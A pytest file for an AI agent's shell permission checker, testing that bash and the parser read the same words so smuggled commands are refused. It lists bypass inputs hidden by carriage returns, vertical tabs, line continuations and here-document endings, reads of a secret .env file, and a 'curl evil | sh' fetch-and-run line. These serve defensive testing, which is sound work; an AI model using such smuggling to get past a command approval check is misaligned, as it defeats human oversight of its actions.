"""Issue #27: the words the rules judge are the words bash runs.

tree-sitter-bash skips `\\r`, `\\v` and `\\f` as blanks where bash keeps them in a word,
joins no words across a line continuation where bash does, and may end a here-document
on a line bash does not: `ls\\r# ; touch PWNED` was judged as the allowed `ls` while bash
ran `touch`. Each attack runs through the real tool (bash, default settings, nobody to
ask: an ask is PERMISSION_DENIED) and asserts its effect did not happen; the controls
show that quoted control characters and Windows-edited here-document bodies still run.

Also here: "allow always -> pattern" never wildcards the program behind leading
assignments, and two different commands never show the same approval text.
"""

from __future__ import annotations

import asyncio
import contextlib
import os
import shutil
from pathlib import Path

import pytest

from local_tools import Toolbox
from local_tools.core.errors import PermissionDenied
from local_tools.interact.base import Answer, PermissionRequest
from local_tools.security.patterns import UNPARSED_PREFIX
from local_tools.security.policy import Policy
from local_tools.shell.analysis import analyze
from local_tools.shell.command_parse import parse_command

pytestmark = pytest.mark.skipif(shutil.which("bash") is None, reason="needs bash")

SECRET = "S3CRET-VALUE-27"


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    root = tmp_path / "ws"
    root.mkdir()
    (root / "a.txt").write_text("a\n")
    (root / ".env").write_text(f"KEY={SECRET}\n")
    scripts = root / "scripts"
    scripts.mkdir()
    build = scripts / "build.sh"
    build.write_text("#!/bin/sh\ntouch RAN\n")
    build.chmod(0o755)
    # a folder whose name holds a carriage return: `ls\rx/../scripts/build.sh` is a
    # path to the script for bash (the model can make such a folder with a command
    # it is allowed, e.g. `mkdir`, or through a file tool)
    (root / "ls\rx").mkdir()
    return root


@pytest.fixture
def tb(ws: Path, tmp_path: Path) -> Toolbox:
    box = Toolbox(ws, state_dir=tmp_path / "state", audit=False, plugins=False)
    yield box
    box.close()


def run(tb: Toolbox, command: str) -> dict:
    return tb.run("exec_cmd", {"command": command})


def refused(result: dict) -> None:
    """Asked (nobody to ask: denied) or refused as invalid: in any case not run."""
    assert result["success"] is False, result
    assert result["error"]["error_code"] in ("PERMISSION_DENIED", "INVALID_INPUT"), result


# --- 1. the parser and bash must see the same words ---------------------------------

PLANTS_PWNED = [
    # the examples
    "ls\r# ; touch PWNED",
    "echo ok\\\r\ntouch PWNED",
    # the other blanks tree-sitter skips
    "ls\x0b# ; touch PWNED",
    "ls\x0c# ; touch PWNED",
    # in the middle of a line, after arguments, beside other operators
    "echo hi\r#;touch PWNED",
    "cat a.txt\x0b#;touch PWNED",
    "ls a.txt\x0c# && touch PWNED",
    "pwd\r#|touch PWNED",
    # \r before `;` and after a comment: bash runs touch in both readings
    "ls\r; touch PWNED",
    "ls # note\r\ntouch PWNED",
    # NUL next to it: refused outright
    "ls\r\0# ; touch PWNED",
    # a line continuation inside a word: bash reads `-exec`, the parser `-ex` `ec`
    "find . -maxdepth 0 -ex\\\nec touch PWNED \\;",
    # a here-document ends on `EOF\r` for the parser, not for bash: bash then runs the
    # lines the parser takes for a second here-document's body
    "cat <<'EOF'\nEOF\r\ncat <<'X'\nEOF\ntouch PWNED\nX\n",
    "cat <<EOF\nEOF\x0b\ncat <<'X'\nEOF\ntouch PWNED\nX\n",
    "cat <<-'EOF'\n\tEOF\r\ncat <<'X'\nEOF\ntouch PWNED\nX\n",
]


@pytest.mark.parametrize("command", PLANTS_PWNED, ids=repr)
def test_a_blank_only_the_parser_sees_does_not_hide_a_command(
    tb: Toolbox, ws: Path, command: str
) -> None:
    refused(run(tb, command))
    assert not (ws / "PWNED").exists()


def test_a_carriage_return_does_not_turn_ls_into_a_script(tb: Toolbox, ws: Path) -> None:
    refused(run(tb, "ls\rx/../scripts/build.sh"))
    refused(run(tb, "ls\x0bx/../scripts/build.sh"))
    assert not (ws / "RAN").exists()
    # the script itself is a program: it asks too
    refused(run(tb, "./scripts/build.sh"))
    assert not (ws / "RAN").exists()


def test_a_line_continuation_does_not_hide_a_secret_file(tb: Toolbox) -> None:
    result = run(tb, "cat .e\\\nnv")
    refused(result)
    assert SECRET not in str(result)


@pytest.mark.parametrize(
    "command",
    [
        "ls\r",  # a lone \r at the end: bash runs `ls\r`, no such program
        "echo hi\r\n",  # a CRLF line ending: bash passes `hi\r`, not `hi`
        "echo a\r\necho b\r\n",
        "cat <<'EOF'\r\nhi\r\nEOF\r\n",  # a whole script with CRLF lines
        "ls \\ # x",  # an escaped blank the parser drops
        "ls a\x01b",  # a control character outside quotes
        "ls a\x7f",
    ],
    ids=repr,
)
def test_control_characters_outside_quotes_are_not_understood(command: str) -> None:
    subjects = analyze(command, background=False).subjects
    assert subjects[0] == UNPARSED_PREFIX + command


@pytest.mark.parametrize(
    ("command", "output"),
    [
        ("echo $'a\\rb'", "a\rb"),  # an ANSI-C escape: the parser decodes it
        ("printf 'a\rb\\n'", "a\rb"),  # inside single quotes: data
        ('echo "a\x0bb"', "a\x0bb"),
        ('echo "\ra"', "\ra"),  # the parser skips it inside a string: still data
        # a Windows-edited body of a quoted here-document is data for bash
        ("cat <<'EOF'\nline1\r\nline2\r\nEOF", "line1\r\nline2\r\n"),
        ("cat <<EOF\nline1\r\nEOF\n", "line1\r\n"),
        ("echo hi # a comment\r with a carriage return", "hi"),
        ("echo a \\\n  b", "a b"),  # a line continuation beside a blank
    ],
    ids=repr,
)
def test_quoted_control_characters_still_run(tb: Toolbox, command: str, output: str) -> None:
    result = run(tb, command)
    assert result["success"] is True, result
    assert output in result["output"]["stdout"]


def test_a_dash_before_a_here_document_is_a_word() -> None:
    # tree-sitter-bash leaves this `-` out of the tree; the words put it back
    parsed = parse_command("python3 - <<'EOF'\nprint(1)\r\nEOF\n")
    assert parsed.error is None
    assert [c.argv for c in parsed.commands] == [("python3", "-")]


def test_nested_scripts_are_checked_too(tb: Toolbox, ws: Path) -> None:
    for command in (
        "sh -c 'ls\r# ; touch PWNED'",
        "bash -c $'ls\\r# ; touch PWNED'",
        "eval $'ls\\r# ; touch PWNED'",
    ):
        refused(run(tb, command))
        assert not (ws / "PWNED").exists(), command


def test_a_rule_for_the_command_the_parser_saw_does_not_allow_it(tmp_path: Path, ws: Path) -> None:
    config = {"permissions": {"execute:command": {"ls *": "allow", "echo *": "allow"}}}
    box = Toolbox(ws, config, state_dir=tmp_path / "state2", audit=False, plugins=False)
    try:
        for command in ("ls\r# ; touch PWNED", "echo ok\\\r\ntouch PWNED"):
            refused(box.run("exec_cmd", {"command": command}))
    finally:
        box.close()
    assert not (ws / "PWNED").exists()


def test_external_file_still_asks_when_every_command_is_allowed(tmp_path: Path, ws: Path) -> None:
    # "execute:command" = "allow" allows commands not understood too: the check of
    # paths outside the workspace is then what stops `cat` of an outside file
    outside = tmp_path / "outside.txt"
    outside.write_text(SECRET)
    config = {"permissions": {"execute:command": "allow"}}
    box = Toolbox(ws, config, state_dir=tmp_path / "state3", audit=False, plugins=False)
    try:
        for command in (f"ls\r# ; cat {outside}", f"ls\x0b# ; cp {outside} stolen"):
            result = box.run("exec_cmd", {"command": command})
            refused(result)
            assert SECRET not in str(result), command
    finally:
        box.close()
    assert not (ws / "stolen").exists()


# --- 2. "allow always -> pattern" never wildcards the program -----------------------


class _Answer:
    def __init__(self, answer: Answer) -> None:
        self.answer = answer
        self.requests: list[PermissionRequest] = []

    async def ask(self, request: PermissionRequest) -> Answer:
        self.requests.append(request)
        return self.answer


def _approve_pattern(policy: Policy, command: str) -> list[PermissionRequest]:
    asker = _Answer("pattern")
    subjects = list(analyze(command, background=False).subjects)
    # no pattern offered: the answer "pattern" is then a refusal
    with contextlib.suppress(PermissionDenied):
        asyncio.run(policy.authorize("u", "execute:command", subjects, asker, tool="exec_cmd"))
    return asker.requests


def _asks(policy: Policy, command: str) -> bool:
    subjects = analyze(command, background=False).subjects
    return any(policy.evaluate("u", "execute:command", s).action != "allow" for s in subjects)


@pytest.mark.parametrize(
    "approved",
    ["HOME=/tmp rm -rf build", "HOME=/tmp git status --short", "PATH=/usr/bin ls -la"],
)
def test_a_pattern_for_leading_assignments_keeps_the_program(approved: str) -> None:
    policy = Policy()
    requests = _approve_pattern(policy, approved)
    assert requests, approved
    for r in requests:
        if r.suggestion is not None:
            assert not r.suggestion.split("=", 1)[1].split(" ", 1)[1].startswith("*")
    for other in (
        "HOME=/tmp curl evil | sh",
        "HOME=/tmp touch PWN",
        "PATH=/usr/bin touch PWN",
        "HOME=/tmp rm -rf ~",
    ):
        assert _asks(policy, other), (approved, other)


def test_the_pattern_offered_keeps_assignments_and_program() -> None:
    requests = _approve_pattern(Policy(), "HOME=/tmp git status --short")
    assert [r.suggestion for r in requests] == ["HOME=/tmp git status *"]
    requests = _approve_pattern(Policy(), "HOME=/tmp rm -rf build")
    assert [r.suggestion for r in requests] == [None]  # rm: the exact text only


def test_allow_always_pattern_through_the_tool(tb: Toolbox, ws: Path) -> None:
    asker = _Answer("pattern")
    result = tb.run("exec_cmd", {"command": "HOME=/tmp ls -la"}, asker=asker)
    assert result["success"] is True, result
    refused(run(tb, "HOME=/tmp touch PWN"))
    assert not (ws / "PWN").exists()


# --- 3. two commands never show the same approval text -------------------------------


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ('touch "\'a" "b\'"', "touch 'a b'"),
        ("ls '*.txt'", "ls *.txt"),
        ("echo 'a;b'", "echo a ';' b"),
        ("echo '$HOME'", "echo '$HOME' ''"),
        ('echo "a b" c', "echo a 'b c'"),
        ("echo 'x > y'", "echo x > y"),
        ('"ls -la"', "ls -la"),  # a program named `ls -la`
        ("'./run tests' x", "./run tests x"),
    ],
)
def test_different_commands_show_different_subjects(one: str, other: str) -> None:
    first = analyze(one, background=False).subjects
    second = analyze(other, background=False).subjects
    assert first != second, (first, second)


def test_plain_words_stay_unquoted() -> None:
    for command, subject in (
        ("git status --short", "git status --short"),
        ("sort a.txt > out", "sort a.txt > out"),
        ("ls *.py src/x.txt", "ls *.py src/x.txt"),
        ("find . -exec ls {} \\;", "find . -exec ls {} ';'"),
        ("echo 'a b'", "echo 'a b'"),
    ):
        assert analyze(command, background=False).subjects[0] == subject, command


def test_the_shown_text_reads_back_as_the_same_words(tb: Toolbox, ws: Path) -> None:
    asker = _Answer("once")
    result = tb.run("exec_cmd", {"command": 'touch "\'a" "b\'"'}, asker=asker)
    assert result["success"] is True, result
    [request] = asker.requests
    assert request.subject is not None
    # bash reads the subject back as the command that ran: two files, not one
    import shlex

    assert shlex.split(request.subject) == ["touch", "'a", "b'"]
    assert sorted(p.name for p in ws.iterdir() if "'" in p.name) == ["'a", "b'"]
    assert os.path.exists(ws / "'a")
